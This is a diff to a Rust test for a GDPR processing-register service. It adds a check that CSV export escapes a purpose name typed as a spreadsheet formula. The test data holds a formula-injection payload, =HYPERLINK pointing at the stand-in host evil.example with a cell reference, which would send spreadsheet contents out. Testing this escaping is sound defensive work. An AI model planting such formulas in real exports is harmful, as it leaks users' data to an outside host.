@@ -280,6 +280,19 @@ async fn register(backend: Backend) {
         "standard contractual clauses (Art. 46(2)(c))"
     );
     assert_eq!(n["retention"]["period"], "P3Y");
+    // A name typed as a spreadsheet formula is written as text in the CSV.
+    c.create_purpose(CreatePurposeRequest {
+        purpose_id: "formula".into(),
+        purpose: Some(Purpose {
+            display_name: "=HYPERLINK(\"http://evil.example/?\"&A1)".into(),
+            lawful_basis: LawfulBasis::LegitimateInterests as i32,
+            category: PurposeCategory::Communication as i32,
+            ..Default::default()
+        }),
+        request_id: String::new(),
+    })
+    .await
+    .unwrap();
     let csv = c
         .export_register(ExportRegisterRequest {
             format: ExportFormat::Csv as i32,
@@ -293,8 +306,12 @@ async fn register(backend: Backend) {
     let text = String::from_utf8(csv.content).unwrap();
     let lines: Vec<_> = text.lines().collect();
     assert!(lines[0].starts_with("name,display_name,description,lawful_basis"));
-    assert_eq!(lines.len(), 6);
+    assert_eq!(lines.len(), 7);
     assert!(text.contains("MailChimp in US: standard contractual clauses"));
+    assert!(
+        text.contains("purposes/formula,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1)\","),
+        "{text}"
+    );
 
     app.stop().await;
 }
